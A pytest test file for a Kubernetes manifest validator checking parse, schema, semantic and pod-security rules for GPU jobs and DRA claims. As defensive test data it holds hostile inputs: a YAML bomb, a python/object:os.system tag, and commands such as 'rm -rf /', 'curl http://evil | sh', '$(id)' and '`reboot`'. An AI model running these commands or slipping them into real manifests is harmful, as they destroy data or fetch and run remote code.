"""Manifest validator (catalog/validation): parse, schema, semantics and policy layers, hostile input included.

No database: the cluster-aware parts come from explicit ValidationContexts.
"""

from __future__ import annotations

import copy
import json
import time
from typing import Any

import pytest
import yaml

from catalog.validation import (
    MAX_DEPTH,
    MAX_DOCUMENTS,
    ValidationContext,
    ValidationFinding,
    ValidationReport,
    format_text,
    parse_manifest,
    validate_documents,
    validate_manifest,
)
from catalog.validation.semantics import ADMIN_ACCESS_MESSAGE
from tests.catalog.conftest import codes, only
from tests.catalog.factories import (
    NS,
    claim,
    cluster_context,
    container,
    exactly,
    job,
    pod,
    template,
    with_template,
)
from tests.podsecurity_cases import CASE_IDS, CASES, Case


def run(*documents: dict[str, Any], context: ValidationContext | None = None) -> ValidationReport:
    return validate_documents(list(documents), context or ValidationContext())


def errors(report: ValidationReport) -> list[ValidationFinding]:
    return [f for f in report.findings if f.severity == "error"]


# The report API.


def test_valid_generated_job_with_claim_template_has_no_errors() -> None:
    manifest = [
        template("train-gpus", {"name": "gpus", "exactly": exactly(count=2, allocationMode="ExactCount", selectors=[
            {"cel": {"expression": 'device.capacity["gpu.nvidia.com"].memory.compareTo(quantity("40Gi")) >= 0'}},
        ])}),
        with_template(job(parallelism=2, completions=2, affinity={"nodeAffinity": {
            "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
                {"matchExpressions": [{"key": "pool", "operator": "In", "values": ["h100"]}]}]}}},
            tolerations=[{"key": "dedicated", "operator": "Equal", "value": "h100", "effect": "NoSchedule"}])),
    ]
    text = "---\n".join(yaml.safe_dump(d, sort_keys=False) for d in manifest)
    for context in (ValidationContext(), cluster_context()):
        report = validate_manifest(text, context)
        assert report.ok, errors(report)
        assert codes(report, severity="warning") == []
        assert [d["kind"] for d in report.documents] == ["ResourceClaimTemplate", "Job"]


def test_valid_device_plugin_pod_has_no_findings() -> None:
    report = run(pod(), context=cluster_context())
    assert report.findings == []
    assert report.ok


def test_report_api_by_layer_and_json() -> None:
    report = run(pod(containers=[container(limits={"nvidia.com/gpu": "0.5"},
                                           securityContext={"privileged": True})]))
    assert not report.ok
    layers = report.by_layer()
    assert list(layers) == ["semantics", "policy"]
    data = report.as_json()
    assert json.loads(json.dumps(data)) == data
    assert data["ok"] is False
    assert data["counts"]["error"] == 2
    assert data["documents"] == [{"index": 0, "apiVersion": "v1", "kind": "Pod", "namespace": NS, "name": "trainer"}]
    assert {f["code"] for f in data["findings"]} == {"extended-resource-not-integer", "privileged"}
    assert set(data["findings"][0]) == {"layer", "severity", "path", "message", "fix", "code"}


def test_validation_does_not_mutate_the_documents() -> None:
    documents = [template(), with_template(job())]
    before = copy.deepcopy(documents)
    seen: list[Any] = []

    def feasibility(pod_doc: dict[str, Any], claims: list[dict[str, Any]]) -> list[ValidationFinding]:
        pod_doc["spec"]["containers"].clear()
        claims.clear()
        seen.append(pod_doc)
        return []

    def dry_run(docs: list[dict[str, Any]]) -> list[ValidationFinding]:
        docs[0]["kind"] = "Changed"
        return []

    validate_documents(documents, cluster_context(feasibility=feasibility, dry_run=dry_run))
    assert documents == before
    assert seen


# Parse layer: hostile input.


def test_parse_multi_document_yaml_and_json_and_list() -> None:
    docs, findings = parse_manifest("---\n# comment\n---\napiVersion: v1\nkind: Pod\n---\n\n---\nkind: Job\n")
    assert findings == []
    assert [d["kind"] for d in docs] == ["Pod", "Job"]
    docs, findings = parse_manifest(json.dumps(pod()))
    assert findings == []
    assert docs == [pod()]
    listed = {"apiVersion": "v1", "kind": "List", "items": [pod(), template()]}
    docs, findings = parse_manifest(yaml.safe_dump(listed))
    assert findings == []
    assert [d["kind"] for d in docs] == ["Pod", "ResourceClaimTemplate"]


def test_billion_laughs_is_refused_without_expanding() -> None:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1},*a{i - 1}]"
              for i in range(1, 10)]
    started = time.perf_counter()
    docs, findings = parse_manifest("\n".join(lines))
    assert time.perf_counter() - started < 1
    assert docs == []
    assert [f.code for f in findings] == ["yaml-anchor"]
    assert "line 1, column 5" in findings[0].message


def test_aliases_and_merge_keys_are_refused() -> None:
    assert parse_manifest("a: *x\n")[1][0].code in {"yaml-alias", "yaml-syntax"}
    assert parse_manifest("metadata:\n  <<: {name: x}\n")[1][0].code == "yaml-merge-key"
    report = validate_manifest("base: &b {privileged: true}\nother: *b\n", ValidationContext())
    assert codes(report) == ["yaml-anchor", "layers-skipped"]
    assert report.documents == []


def test_ten_thousand_documents_are_cut_at_the_limit() -> None:
    text = "".join(f"---\napiVersion: v1\nkind: Pod\nmetadata: {{name: p{i}}}\n" for i in range(10_000))
    started = time.perf_counter()
    docs, findings = parse_manifest(text)
    assert time.perf_counter() - started < 2
    assert len(docs) == MAX_DOCUMENTS
    assert [f.code for f in findings] == ["too-many-documents"]
    huge_list = json.dumps({"apiVersion": "v1", "kind": "List", "items": [{"kind": "Pod"}] * 10_000})
    docs, findings = parse_manifest(huge_list)
    assert len(docs) == MAX_DOCUMENTS
    assert [f.code for f in findings] == ["too-many-documents"]
    full = "---\n".join([yaml.safe_dump(pod())] * 10_000)  # several MiB
    report = validate_manifest(full, ValidationContext())
    assert codes(report) == ["manifest-too-large", "layers-skipped"]


def test_oversized_manifest_is_refused() -> None:
    docs, findings = parse_manifest("a: " + "x" * (1024 * 1024))
    assert docs == []
    assert [f.code for f in findings] == ["manifest-too-large"]


@pytest.mark.parametrize("text", [
    "a: " + "[" * 100_000,
    "a: " + "[" * 5_000 + "]" * 5_000,
    "a:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 200)) + "  " * 200 + "v: 1\n",
    "[" * 100_000 + "]" * 100_000,
    '{"a":' * 5_000 + "1" + "}" * 5_000,
])
def test_deeply_nested_documents_are_refused(text: str) -> None:
    docs, findings = parse_manifest(text)
    assert docs == []
    assert [f.code for f in findings] in (["too-deep"], ["yaml-syntax"])


def test_nesting_up_to_the_limit_is_accepted() -> None:
    value: Any = 1
    for _ in range(MAX_DEPTH - 2):
        value = {"k": value}
    docs, findings = parse_manifest(json.dumps({"a": value}))
    assert findings == []
    assert len(docs) == 1


@pytest.mark.parametrize(("text", "kind"), [
    ("- apiVersion: v1\n  kind: Pod\n", "sequence"),
    ("just a string\n", "scalar"),
    ("42\n", "scalar"),
    ("apiVersion: v1\nkind: Pod\n---\n[1, 2]\n", "sequence"),
])
def test_non_mapping_documents_are_parse_errors_with_position(text: str, kind: str) -> None:
    _docs, findings = parse_manifest(text)
    assert [f.code for f in findings] == ["not-a-mapping"]
    assert kind in findings[0].message
    assert "line " in findings[0].message
    assert findings[0].path.startswith("documents[")


def test_yaml_syntax_errors_carry_line_and_column() -> None:
    _docs, findings = parse_manifest("apiVersion: v1\nkind: Pod\nmetadata:\n  name: [unclosed\n")
    assert findings[0].code == "yaml-syntax"
    assert "line " in findings[0].message
    assert "column " in findings[0].message


def test_duplicate_keys_are_refused() -> None:
    text = "apiVersion: v1\nkind: Pod\nspec:\n  hostNetwork: false\n  hostNetwork: true\n"
    _docs, findings = parse_manifest(text)
    assert [f.code for f in findings] == ["duplicate-key"]
    assert "line 5" in findings[0].message
    _docs, findings = parse_manifest('{"kind": "Pod", "kind": "Job"}')
    assert [f.code for f in findings] == ["duplicate-key"]


def test_odd_scalars_become_json_values() -> None:
    docs, findings = parse_manifest("a: 2024-01-01\nb: !!binary aGk=\n1: one\nc: =\n")
    assert findings == []
    assert docs == [{"a": "2024-01-01", "b": "aGk=", "1": "one", "c": "="}]
    assert parse_manifest("a: .nan\n")[1][0].code == "not-finite-number"
    assert parse_manifest('{"a": NaN}')[1][0].code == "not-finite-number"
    assert parse_manifest("a: !!python/object:os.system ls\n")[1][0].code == "yaml-syntax"


def test_empty_and_non_text_input() -> None:
    assert parse_manifest("")[1][0].code == "empty-manifest"
    assert parse_manifest("---\n...\n")[1][0].code == "empty-manifest"
    assert parse_manifest("# only a comment\n---\n")[1][0].code == "empty-manifest"
    assert parse_manifest(b"bytes")[1][0].code == "not-text"  # type: ignore[arg-type]


def test_validate_documents_rejects_non_mappings() -> None:
    report = validate_documents(["not a doc", 3, pod()], ValidationContext())  # type: ignore[list-item]
    assert codes(report) == ["not-a-mapping", "not-a-mapping"]
    assert [f.path for f in report.findings] == ["documents[0]", "documents[1]"]


# YAML injection attempts through names, images and commands.


def test_name_with_injected_yaml_stays_a_string_and_is_an_error() -> None:
    doc = pod(containers=[container("main\n  privileged: true", limits={"nvidia.com/gpu": 1})])
    doc["metadata"]["name"] = "x\nspec:\n  hostNetwork: true"
    text = yaml.safe_dump(doc)
    report = validate_manifest(text, ValidationContext())
    assert report.documents[0]["spec"].get("hostNetwork") is None
    assert "securityContext" not in report.documents[0]["spec"]["containers"][0]
    assert "privileged" not in codes(report)
    assert "host-namespace" not in codes(report)
    names = [f for f in report.findings if f.code == "invalid-name"]
    assert {f.path for f in names} == {"documents[0].metadata.name", "documents[0].spec.containers[0].name"}
    for finding in names:
        assert "\n" not in finding.message
        assert "\\n" in finding.message


def test_images_with_spaces_or_shell_metacharacters_are_errors() -> None:
    for image in ("ubuntu:22.04; rm -rf /", "ubuntu 22.04", " ubuntu:22.04", "$(curl evil)", "UBUNTU:22.04",
                  "ubuntu:22.04\n"):
        report = run(pod(containers=[container(image=image, limits={"nvidia.com/gpu": 1})]))
        assert codes(report, "semantics") == ["invalid-image"], image
    for image in ("ubuntu", "registry.example.com:5000/team/app:v1.2", "nvcr.io/nvidia/cuda@sha256:" + "a" * 64,
                  "localhost/app:latest"):
        report = run(pod(containers=[container(image=image, limits={"nvidia.com/gpu": 1})]))
        assert "invalid-image" not in codes(report), image


def test_commands_are_data_and_never_interpreted() -> None:
    hostile = ["sh", "-c", "rm -rf / ; curl http://evil | sh\n  privileged: true", "$(id)", "`reboot`"]
    report = run(pod(containers=[container(command=hostile, limits={"nvidia.com/gpu": 1})]))
    assert report.ok
    assert report.findings == []


def test_terminal_escape_sequences_are_neutralised_in_text_output() -> None:
    doc = pod()
    doc["metadata"]["name"] = "evil\x1b[2J\x1b[31mOK\u202e"
    report = run(doc)
    text = format_text(report)
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert "\\u001b" in text
    assert "\\u202e" in text


def test_hostile_map_keys_are_quoted_in_paths() -> None:
    doc = pod(containers=[container(limits={"evil'] + [\n": 1})])
    report = run(doc)
    finding = next(f for f in report.findings if f.code == "unknown-resource-name")
    assert finding.path == "documents[0].spec.containers[0].resources.limits['evil\\'] + [\\n']"


# Schema layer.


def test_unknown_fields_are_errors_with_their_path() -> None:
    doc = pod()
    doc["spec"]["containers"][0]["resource"] = {"limits": {"nvidia.com/gpu": 1}}
    doc["spec"]["nodeselector"] = {"a": "b"}
    doc["metadata"]["labelz"] = {}
    report = run(doc)
    unknown = {f.path: f for f in report.findings if f.code == "unknown-field"}
    assert set(unknown) == {
        "documents[0].metadata.labelz",
        "documents[0].spec.containers[0].resource",
        "documents[0].spec.nodeselector",
    }
    assert "`resources`" in unknown["documents[0].spec.containers[0].resource"].fix
    assert "`nodeSelector`" in unknown["documents[0].spec.nodeselector"].fix
    assert all(f.layer == "schema" and f.severity == "error" for f in unknown.values())


def test_wrong_types_fail_hard_and_skip_later_layers() -> None:
    doc = pod(containers=[container(limits={"nvidia.com/gpu": [1]}, securityContext={"privileged": True})])
    doc["spec"]["hostNetwork"] = "yes"
    report = run(doc)
    assert {f.path for f in report.findings if f.code == "wrong-type"} == {
        "documents[0].spec.hostNetwork",
        "documents[0].spec.containers[0].resources.limits['nvidia.com/gpu']",
    }
    assert "layers-skipped" in codes(report, "schema", "info")
    assert codes(report, "policy") == []
    assert codes(report, "semantics") == []


def test_required_fields_and_enums() -> None:
    doc = claim("c", {"name": "gpu", "exactly": {"count": 1}})
    report = run(doc)
    assert only(report, "required-field").path == "documents[0].spec.devices.requests[0].exactly.deviceClassName"


@pytest.mark.parametrize(("api_version", "kind", "code"), [
    ("apps/v1", "Deployment", "unsupported-kind"),
    ("v1", "Namespace", "unsupported-kind"),
    ("resource.k8s.io/v1beta1", "ResourceClaim", "unsupported-api-version"),
    ("v1", "Job", "unsupported-api-version"),
])
def test_unsupported_kinds(api_version: str, kind: str, code: str) -> None:
    report = run({"apiVersion": api_version, "kind": kind, "metadata": {"name": "x"}})
    assert codes(report) == [code, "layers-skipped"]
    assert "not supported here" in report.findings[0].message


def test_missing_api_version_and_kind() -> None:
    report = run({"metadata": {"name": "x"}})
    assert codes(report) == ["missing-type", "missing-type", "layers-skipped"]


def test_schema_version_follows_the_context() -> None:
    report = run(claim(), context=ValidationContext(kubernetes_version="v1.33.4"))
    assert codes(report) == ["schema-not-found", "layers-skipped"]
    report = run(claim(), context=ValidationContext(kubernetes_version="1.99.0"))
    assert report.ok
    assert codes(report) == ["schema-version"]
    assert "1.37" in report.findings[0].message
    report = run(pod(), context=ValidationContext(kubernetes_version="1.9"))
    assert codes(report) == ["schema-version"]
    assert "1.25" in report.findings[0].message


def test_schema_error_flood_is_truncated() -> None:
    doc = pod()
    doc["spec"].update({f"bogus{i}": i for i in range(500)})
    report = run(doc)
    assert len([f for f in report.findings if f.layer == "schema"]) <= 52
    assert "findings-truncated" in codes(report)


# Semantics layer: extended resources.


@pytest.mark.parametrize("amount", ["0.5", 0.5, "500m", "1.5", "1e-1"])
def test_fractional_gpus_are_errors(amount: Any) -> None:
    report = run(pod(containers=[container(limits={"nvidia.com/gpu": amount})]))
    finding = only(report, "extended-resource-not-integer")
    assert finding.path == "documents[0].spec.containers[0].resources.limits['nvidia.com/gpu']"
    assert "no fractional GPUs" in finding.message


def test_request_different_from_limit_is_an_error() -> None:
    report = run(pod(containers=[container(limits={"nvidia.com/gpu": 2}, requests={"nvidia.com/gpu": 1})]))
    finding = only(report, "extended-resource-request-not-limit")
    assert finding.path == "documents[0].spec.containers[0].resources.requests['nvidia.com/gpu']"
    assert run(pod(containers=[container(limits={"nvidia.com/gpu": 2}, requests={"nvidia.com/gpu": "2"})])).ok


def test_extended_resource_only_in_requests_is_an_error() -> None:
    report = run(pod(containers=[container(requests={"nvidia.com/gpu": 1})]))
    finding = only(report, "extended-resource-not-in-limits")
    assert "must be declared in limits" in finding.message


def test_invalid_and_negative_quantities() -> None:
    report = run(pod(containers=[container(limits={"nvidia.com/gpu": "one", "cpu": "-1"})]))
    assert sorted(codes(report, "semantics")) == ["invalid-quantity", "negative-quantity"]
    report = run(pod(containers=[container(requests={"cpu": "8"}, limits={"cpu": "4", "nvidia.com/gpu": 1})]))
    assert codes(report, "semantics") == ["request-exceeds-limit"]


def test_non_standard_resource_names() -> None:
    report = run(pod(containers=[container(limits={"gpu": 1})]), context=cluster_context())
    finding = only(report, "unknown-resource-name")
    assert "nvidia.com/gpu" in finding.fix


def test_missing_gpu_resource_name_on_the_cluster() -> None:
    context = cluster_context(node_resources={"nvidia.com/gpu": 4}, gpu_node_count=4, cpu_only_node_count=10)
    report = run(pod(containers=[container(limits={"nvidia.com/gpus": 1})]), context=context)
    finding = only(report, "unknown-resource-name")
    assert finding.severity == "error"
    assert finding.layer == "semantics"
    assert "nvidia.com/gpus" in finding.message
    assert "nvidia.com/gpu" in finding.fix
    assert "4 accelerator node(s)" in finding.message
    assert "10 CPU-only node(s)" in finding.message
    assert "adding CPU nodes will not help" in finding.message
    # Without cluster knowledge the name is only checked for form.
    assert run(pod(containers=[container(limits={"nvidia.com/gpus": 1})])).ok


def test_extended_names_served_by_dra_classes_are_known() -> None:
    context = cluster_context(node_resources={}, device_classes={
        "gpu.nvidia.com": {"spec": {"extendedResourceName": "nvidia.com/gpu"}}, "fpga": {"spec": {}}})
    assert run(pod(), context=context).ok
    report = run(pod(containers=[container(limits={"deviceclass.resource.kubernetes.io/fpga": 1})]),
                 context=context)
    assert report.ok, errors(report)


def test_mig_profiles() -> None:
    report = run(pod(containers=[container(limits={"nvidia.com/mig-2g.20gb": 1})]), context=cluster_context())
    finding = only(report, "unknown-mig-profile")
    assert "nvidia.com/mig-1g.10gb" in finding.message
    assert "nvidia.com/mig-3g.40gb" in finding.message
    assert run(pod(containers=[container(limits={"nvidia.com/mig-1g.10gb": 1})]), context=cluster_context()).ok
    report = run(pod(containers=[container(limits={"nvidia.com/mig-1g.10gb": 1})]),
                 context=cluster_context(node_resources={"nvidia.com/gpu": 2}))
    assert "none of them partitioned with MIG" in only(report, "unknown-mig-profile").message


# Semantics layer: names and namespaces.


def test_names_must_be_dns_compatible() -> None:
    doc = pod("Trainer_1", containers=[container("Main", limits={"nvidia.com/gpu": 1})])
    report = run(doc)
    assert sorted(f.path for f in report.findings if f.code == "invalid-name") == [
        "documents[0].metadata.name", "documents[0].spec.containers[0].name"]
    long_job = job("j" * 64)
    assert "job-name label" in only(run(long_job), "invalid-name").message
    assert run(pod("a" * 253)).ok
    assert not run(pod("a" * 254)).ok


def test_name_or_generate_name_required() -> None:
    doc = pod()
    del doc["metadata"]["name"]
    assert codes(run(doc)) == ["name-required"]
    doc["metadata"]["generateName"] = "trainer-"
    assert run(doc).ok


def test_duplicate_container_names_and_unknown_volumes() -> None:
    doc = pod(containers=[container(limits={"nvidia.com/gpu": 1}),
                          container(volumeMounts=[{"name": "data", "mountPath": "/data"}])])
    report = run(doc)
    assert sorted(codes(report)) == ["duplicate-container-name", "unknown-volume"]


def test_invalid_labels_and_annotations() -> None:
    doc = pod()
    doc["metadata"]["labels"] = {"ok": "yes", "bad key!": "v", "k": "x" * 64, "a/b/c": "v"}
    doc["metadata"]["annotations"] = {"-bad": "v"}
    report = run(doc)
    assert codes(report).count("invalid-label") == 3
    assert codes(report).count("invalid-annotation") == 1


def test_unknown_namespace_when_the_cluster_is_known() -> None:
    report = run(pod(namespace="team-m1"), context=cluster_context())
    finding = only(report, "unknown-namespace")
    assert "team-ml" in finding.fix
    assert codes(run(pod(namespace="Team ML"))) == ["invalid-namespace"]
    report = run(pod(namespace=None), context=cluster_context())
    assert codes(report) == ["namespace-defaulted"]
    report = run(pod(namespace=None), context=cluster_context(namespaces={NS: {}}))
    assert "unknown-namespace" in codes(report)


def test_job_restart_policy_and_counts() -> None:
    doc = job(parallelism=-1)
    doc["spec"]["template"]["spec"]["restartPolicy"] = "Always"
    report = run(doc)
    assert sorted(codes(report)) == ["invalid-restart-policy", "invalid-value"]
    del doc["spec"]["template"]["spec"]["restartPolicy"]
    assert "invalid-restart-policy" in codes(run(doc))


# Semantics layer: pod claims.


def test_container_claim_must_be_in_pod_resource_claims() -> None:
    doc = with_template(pod(), "train-gpus")
    doc["spec"]["containers"][0]["resources"]["claims"] = [{"name": "gpu"}]
    report = run(template(), doc)
    assert sorted(codes(report)) == ["unknown-pod-claim", "unused-pod-claim"]
    assert only(report, "unknown-pod-claim").path == "documents[1].spec.containers[0].resources.claims[0].name"


def test_pod_claim_needs_exactly_one_source() -> None:
    doc = with_template(pod())
    doc["spec"]["resourceClaims"][0]["resourceClaimName"] = "shared"
    assert "pod-claim-source" in codes(run(template(), doc))


def test_claim_from_another_namespace_and_unknown_claims_are_left_to_feasibility() -> None:
    report = run(template(namespace="other"), with_template(pod()))
    assert "claim-other-namespace" in codes(report)
    report = run(with_template(pod(), "defined-in-the-cluster"))
    assert report.ok
    assert report.findings == []


def test_container_claim_request_must_exist() -> None:
    doc = with_template(pod())
    doc["spec"]["containers"][0]["resources"]["claims"] = [{"name": "gpus", "request": "nope"}]
    assert codes(run(template(), doc)) == ["unknown-claim-request"]


# Semantics layer: DRA claims and templates.


def test_too_many_requests_and_subrequests() -> None:
    many = [{"name": f"r{i}", "exactly": exactly()} for i in range(33)]
    assert "too-many-requests" in codes(run(claim("c", *many)))
    subs = [{"name": f"s{i}", "deviceClassName": "gpu.nvidia.com"} for i in range(9)]
    report = run(claim("c", {"name": "r", "firstAvailable": subs}))
    assert codes(report) == ["too-many-subrequests"]


def test_exactly_or_first_available() -> None:
    both = {"name": "r", "exactly": exactly(), "firstAvailable": [{"name": "s", "deviceClassName": "x"}]}
    assert codes(run(claim("c", both))) == ["request-exactly-or-first-available"]
    assert codes(run(claim("c", {"name": "r"}))) == ["request-exactly-or-first-available"]


@pytest.mark.parametrize(("count", "code"), [(0, "invalid-count"), (-3, "invalid-count"), (33, "count-too-large"),
                                             (10**9, "count-too-large"), (10**30, "count-too-large")])
def test_counts(count: int, code: str) -> None:
    report = run(template("t", {"name": "r", "exactly": exactly(count=count)}))
    assert code in codes(report)
    assert only(report, code).path == "documents[0].spec.spec.devices.requests[0].exactly.count"


def test_count_with_all_and_total_devices() -> None:
    assert codes(run(claim("c", {"name": "r", "exactly": exactly(count=2, allocationMode="All")}))) == [
        "invalid-count"]
    requests = [{"name": f"r{i}", "exactly": exactly(count=16)} for i in range(3)]
    assert codes(run(claim("c", *requests))) == ["claim-too-many-devices"]
    assert codes(run(claim("c", {"name": "r", "exactly": exactly(count=None, allocationMode="Some")}))) == [
        "unsupported-value"]


def test_unknown_device_class_lists_existing_ones() -> None:
    report = run(claim("c", {"name": "r", "exactly": exactly("gpu.nvidia.co")}), context=cluster_context())
    finding = only(report, "unknown-device-class")
    assert "gpu.nvidia.com" in finding.message
    assert "mig.nvidia.com" in finding.message
    assert "gpu.nvidia.com" in finding.fix
    sub = {"name": "r", "firstAvailable": [{"name": "a", "deviceClassName": "nope"}]}
    assert only(run(claim("c", sub), context=cluster_context()), "unknown-device-class").path.endswith(
        "firstAvailable[0].deviceClassName")


def test_invalid_cel_reports_line_and_column() -> None:
    expression = "device.driver == 'gpu.nvidia.com' &&\n  device.attributes['gpu.nvidia.com'].memory >>> 3"
    report = run(claim("c", {"name": "r", "exactly": exactly(selectors=[{"cel": {"expression": expression}}])}))
    finding = only(report, "cel-invalid")
    assert finding.path == "documents[0].spec.devices.requests[0].exactly.selectors[0].cel.expression"
    assert "line 2, column" in finding.message
    report = run(claim("c", {"name": "r", "exactly": exactly(selectors=[{"cel": {"expression": "devic.driver"}}])}))
    assert "line 1, column " in only(report, "cel-invalid").message


def test_cel_limits() -> None:
    long = "device.driver == '" + "x" * 11_000 + "'"
    report = run(claim("c", {"name": "r", "exactly": exactly(selectors=[{"cel": {"expression": long}}])}))
    assert codes(report) == ["cel-limit"]
    expensive = ("device.attributes['d'].all(a, device.attributes['d'].all(b, device.attributes['d'].all(c, "
                 "device.attributes['d'].all(e, true))))")
    report = run(claim("c", {"name": "r", "exactly": exactly(selectors=[{"cel": {"expression": expensive}}])}))
    assert codes(report) == ["cel-limit"]


def test_constraints_and_config_reference_requests() -> None:
    doc = claim("c", {"name": "r", "firstAvailable": [{"name": "a", "deviceClassName": "gpu.nvidia.com"}]})
    doc["spec"]["devices"]["constraints"] = [{"requests": ["r/a", "r"], "matchAttribute": "gpu.nvidia.com/uuid"}]
    doc["spec"]["devices"]["config"] = [{"requests": ["x"], "opaque": {"driver": "gpu.nvidia.com",
                                                                     "parameters": {"a": 1}}}]
    report = run(doc)
    assert codes(report) == ["unknown-claim-request"]
    assert only(report, "unknown-claim-request").path == "documents[0].spec.devices.config[0].requests[0]"


def test_admin_access_requires_the_namespace_label() -> None:
    request = {"name": "r", "exactly": exactly(adminAccess=True, count=None, allocationMode="All")}
    report = run(claim("c", request), context=cluster_context())
    finding = only(report, "admin-access-forbidden")
    assert finding.message == ADMIN_ACCESS_MESSAGE
    assert finding.message == ("admin access to devices requires the `resource.kubernetes.io/admin-access: true` "
                               "label on the containing namespace")
    assert finding.path == "documents[0].spec.devices.requests[0].exactly.adminAccess"
    granted = run(claim("c", request, namespace="monitoring"), context=cluster_context())
    assert granted.ok
    assert codes(granted) == ["admin-access-granted"]
    unknown = run(template("t", request))
    assert unknown.ok
    assert codes(unknown) == ["admin-access-unverified"]
    not_set = run(claim("c", {"name": "r", "exactly": exactly(adminAccess=False)}), context=cluster_context())
    assert not_set.findings == []


def test_admin_access_is_not_a_subrequest_field() -> None:
    sub = {"name": "r", "firstAvailable": [{"name": "a", "deviceClassName": "x", "adminAccess": True}]}
    report = run(claim("c", sub))
    assert only(report, "unknown-field").path == "documents[0].spec.devices.requests[0].firstAvailable[0].adminAccess"


# Policy layer.


def _policy(*, context: ValidationContext | None = None, **spec: Any) -> list[str]:
    return codes(run(pod(**spec), context=context), "policy")


def test_privileged_container_is_an_error() -> None:
    report = run(pod(containers=[container(limits={"nvidia.com/gpu": 1}, securityContext={"privileged": True})]))
    finding = only(report, "privileged")
    assert finding.severity == "error"
    assert finding.path == "documents[0].spec.containers[0].securityContext.privileged"


def test_privilege_escalation_is_a_warning() -> None:
    report = run(pod(containers=[container(limits={"nvidia.com/gpu": 1},
                                           securityContext={"allowPrivilegeEscalation": True})]))
    assert only(report, "allow-privilege-escalation").severity == "warning"


@pytest.mark.parametrize("capability", ["SYS_ADMIN", "CAP_SYS_ADMIN", "sys_admin", "ALL"])
def test_sys_admin_capability_is_an_error(capability: str) -> None:
    security = {"capabilities": {"add": ["NET_BIND_SERVICE", capability]}}
    report = run(pod(containers=[container(limits={"nvidia.com/gpu": 1}, securityContext=security)]))
    assert only(report, "capability-sys-admin").path.endswith("capabilities.add[1]")


@pytest.mark.parametrize(("path", "code", "severity"), [
    ("/dev", "hostpath-device", "error"),
    ("/dev/nvidia0", "hostpath-device", "error"),
    ("/dev/nvidiactl", "hostpath-device", "error"),
    ("//dev/../dev/./nvidia-uvm", "hostpath-device", "error"),
    ("/", "hostpath-device", "error"),
    ("//", "hostpath-device", "error"),
    ("/./dev", "hostpath-device", "error"),
    ("/var/log", "hostpath", "error"),  # any hostPath violates the baseline Pod Security Standard
    ("/proc/1/root", "hostpath", "error"),
    ("/run/containerd/containerd.sock", "hostpath", "error"),
])
def test_host_paths(path: str, code: str, severity: str) -> None:
    volumes = [{"name": "host", "hostPath": {"path": path}}]
    report = run(pod(containers=[container(limits={"nvidia.com/gpu": 1},
                                           volumeMounts=[{"name": "host", "mountPath": "/h"}])], volumes=volumes))
    finding = only(report, code)
    assert finding.severity == severity
    assert finding.path == "documents[0].spec.volumes[0].hostPath.path"


# The shared case list (tests/podsecurity_cases.py): the admission policy and the violation scan run the same cases.
CODES = {"privileged": {"privileged"}, "capabilities": {"capability", "capability-sys-admin"},
         "hostPath": {"hostpath", "hostpath-device"}, "hostNamespaces": {"host-namespace"}, "hostPorts": {"host-port"},
         "hostProbes": {"probe-host"}, "appArmor": {"apparmor"}, "seLinux": {"selinux"}, "procMount": {"proc-mount"},
         "seccomp": {"seccomp"}, "sysctls": {"sysctl"}, "hostProcess": {"host-process"}}


@pytest.mark.parametrize("case", CASES, ids=CASE_IDS)
def test_policy_layer_errors_exactly_for_the_shared_cases(case: Case) -> None:
    document = case.pod("case")
    document["metadata"]["namespace"] = NS
    report = run(document)
    assert not [f for f in report.findings if f.layer in ("parse", "schema") and f.severity == "error"]
    found = codes(report, "policy", "error")
    assert bool(found) is case.needs_exception, (case.id, report.findings)
    assert {control for control, known in CODES.items() if known & set(found)} == case.violates, found
    as_job = job(containers=document["spec"]["containers"], **{k: v for k, v in document["spec"].items()
                                                               if k != "containers"})
    as_job["spec"]["template"]["metadata"] = {"annotations": case.annotations}
    assert bool(codes(run(as_job), "policy", "error")) is case.needs_exception  # a pod template, the same


def test_every_baseline_control_has_a_finding_code() -> None:
    from inventory.k8s.podsecurity import CONTROL_BY_ID

    assert set(CODES) == set(CONTROL_BY_ID)


def test_char_device_host_path_is_an_error() -> None:
    volumes = [{"name": "gpu", "hostPath": {"path": "/opt/gpu0", "type": "CharDevice"}}]
    assert _policy(volumes=volumes) == ["hostpath-device"]


@pytest.mark.parametrize("field", ["hostNetwork", "hostPID", "hostIPC"])
def test_host_namespaces_are_errors(field: str) -> None:
    report = run(pod(**{field: True}))
    assert only(report, "host-namespace").path == f"documents[0].spec.{field}"
    assert run(pod(**{field: False})).findings == []


@pytest.mark.parametrize("variable", ["NVIDIA_VISIBLE_DEVICES", "CUDA_VISIBLE_DEVICES"])
def test_visible_devices_overrides_are_errors(variable: str) -> None:
    env = [{"name": "OK", "value": "1"}, {"name": variable, "value": "all"}]
    report = run(pod(containers=[container(limits={"nvidia.com/gpu": 1}, env=env)]))
    assert only(report, "visible-devices-override").path == "documents[0].spec.containers[0].env[1]"
    from_ref = [{"name": variable, "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}]
    assert "visible-devices-override" in codes(run(pod(containers=[container(env=from_ref)])))


def test_volume_devices_are_a_warning() -> None:
    doc = pod(containers=[container(limits={"nvidia.com/gpu": 1},
                                    volumeDevices=[{"name": "raw", "devicePath": "/dev/xvda"}])],
              volumes=[{"name": "raw", "persistentVolumeClaim": {"claimName": "raw"}}])
    assert only(run(doc), "volume-devices").severity == "warning"


def test_toleration_without_affinity_warns() -> None:
    toleration = [{"key": "dedicated", "operator": "Equal", "value": "h100", "effect": "NoSchedule"}]
    context = cluster_context()
    report = run(pod(tolerations=toleration), context=context)
    finding = only(report, "toleration-without-affinity")
    assert "a toleration only permits, it does not attract" in finding.message
    assert "pool=h100" in finding.fix
    assert _policy(tolerations=toleration, nodeSelector={"pool": "h100"}, context=context) == []
    wrong = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
        {"matchExpressions": [{"key": "kubernetes.io/arch", "operator": "In", "values": ["amd64"]}]}]}}}
    assert _policy(tolerations=toleration, affinity=wrong, context=context) == ["toleration-without-affinity"]
    preferred = {"nodeAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [
        {"weight": 1, "preference": {"matchExpressions": [{"key": "pool", "operator": "In", "values": ["h100"]}]}}]}}
